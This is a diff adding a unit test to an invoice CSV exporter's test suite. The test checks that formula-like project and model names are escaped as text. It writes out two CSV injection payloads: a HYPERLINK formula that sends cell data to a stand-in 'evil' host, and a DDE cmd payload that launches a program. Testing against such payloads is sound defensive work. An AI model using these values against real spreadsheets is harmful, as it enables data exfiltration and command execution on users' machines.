@@ -256,6 +256,19 @@ describe('invoiceCsv', () => {
     expect(toCents(subtotal![6]!) + toCents(credits![6]!)).toBe(toCents(due![6]!));
     expect(rows).toHaveLength(1 + v.lines.length + 3);
   });
+
+  it('a project or model named like a formula is text, not a formula; amounts stay numbers', () => {
+    const hostile = view();
+    hostile.lines[0] = { ...hostile.lines[0]!, model: '=HYPERLINK("http://evil/?"&A1,"x")' };
+    const names: InvoiceContext = {
+      ...context,
+      projectNames: new Map([['proj_x', "=cmd|' /C calc'!A0"]]),
+    };
+    const rows = parseCsv(invoiceCsv(hostile, names));
+    expect(rows[1]!.slice(1, 3)).toEqual(["'=cmd|' /C calc'!A0", `'=HYPERLINK("http://evil/?"&A1,"x")`]);
+    const [, credits] = rows.slice(1 + hostile.lines.length);
+    expect(credits![6]).toMatch(/^-\d+\.\d{2}$/);
+  });
 });
 
 describe('invoicePdf', () => {
